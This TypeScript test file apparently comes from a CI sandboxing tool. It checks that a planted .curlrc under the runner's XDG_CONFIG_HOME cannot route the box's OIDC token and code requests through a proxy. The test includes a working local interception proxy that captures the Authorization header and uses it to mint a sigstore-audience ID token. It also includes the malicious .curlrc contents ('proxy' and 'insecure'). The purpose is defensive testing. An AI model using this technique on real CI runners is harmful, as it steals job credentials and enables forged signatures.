// The box's second step fetches the job's OIDC token and sealbox's code with
// curl, before any sealbox code runs. curl reads a configuration file before
// its command line: $CURL_HOME/.curlrc (the guard refuses CURL_HOME), else
// $XDG_CONFIG_HOME/.curlrc, else $HOME/.curlrc. XDG_CONFIG_HOME is not on the
// guard's denylist (GitHub's Ubuntu images set it themselves, to
// /home/runner/.config), so a runner environment pointing it at a folder
// holding a .curlrc chooses curl's options: a `proxy` (with `insecure`, TLS
// included) that receives the request for the job's ID token, its
// Authorization header (ACTIONS_ID_TOKEN_REQUEST_TOKEN: a token for any
// audience, sigstore's included, while the job runs) and the archive of the
// code the box then runs. `curl -q` (as its first argument) reads no
// configuration file.
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { setRunnerEnvironment } from '../../src/devstack/index.ts';
import { dispatchBox } from '../helpers/box-workflow.ts';
import { useStack } from '../helpers/stack.ts';

const ctx = useStack();

test("a .curlrc under the runner's XDG_CONFIG_HOME never sees the box's token requests", async () => {
  const seen: { url: string; authorization: string; sigstoreToken: string }[] = [];
  // A forward proxy: it keeps each request's URL and Authorization header,
  // asks for an ID token of audience sigstore with that header while the job
  // runs, and passes the request on unchanged.
  const proxy = createServer((req, res) => {
    const url = req.url ?? '';
    const authorization = req.headers.authorization ?? '';
    const pass = () => {
      const upstream = httpRequest(url, { method: req.method, headers: req.headers }, (r) => {
        res.writeHead(r.statusCode ?? 502, r.headers);
        r.pipe(res);
      });
      upstream.on('error', () => res.destroy());
      req.pipe(upstream);
    };
    if (!authorization || !/audience=/.test(url)) {
      seen.push({ url, authorization, sigstoreToken: '' });
      return pass();
    }
    const sigstoreUrl = url.replace(/audience=[^&]*/, 'audience=sigstore');
    void fetch(sigstoreUrl, { headers: { authorization } })
      .then(async (r) => ((await r.json()) as { value?: string }).value ?? `HTTP ${r.status}`)
      .catch((e: unknown) => String(e))
      .then((sigstoreToken) => {
        seen.push({ url, authorization, sigstoreToken });
        pass();
      });
  });
  await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
  const { port } = proxy.address() as { port: number };
  const config = join(ctx.dir, 'xdg-config');
  mkdirSync(config);
  writeFileSync(join(config, '.curlrc'), `proxy = "http://127.0.0.1:${port}"\ninsecure\n`);
  setRunnerEnvironment(ctx.stack, { XDG_CONFIG_HOME: config });
  try {
    const job = (await dispatchBox(ctx.stack, 'acme/curlrc')).job;
    const stolen = seen.find((s) => s.sigstoreToken);
    const audience = stolen
      ? (JSON.parse(
          Buffer.from(stolen.sigstoreToken.split('.')[1] ?? '', 'base64url').toString() || '{}',
        ) as { aud?: string; job_workflow_ref?: string })
      : undefined;
    assert.equal(
      seen.length,
      0,
      `job ${job.conclusion ?? ''}: the runner's .curlrc sent ${seen.length} of the box's requests to its proxy (${seen.map((s) => new URL(s.url).pathname).join(', ')})` +
        (stolen
          ? `, among them the ID token request with its bearer token, which then got a token of audience ${audience?.aud ?? '?'} for ${audience?.job_workflow_ref ?? '?'}`
          : ''),
    );
    // GitHub's images set XDG_CONFIG_HOME themselves: the box must run, its
    // curl reading no configuration file, rather than refuse the variable.
    assert.equal(job.conclusion, 'success', job.log);
  } finally {
    setRunnerEnvironment(ctx.stack, {});
    proxy.close();
  }
});
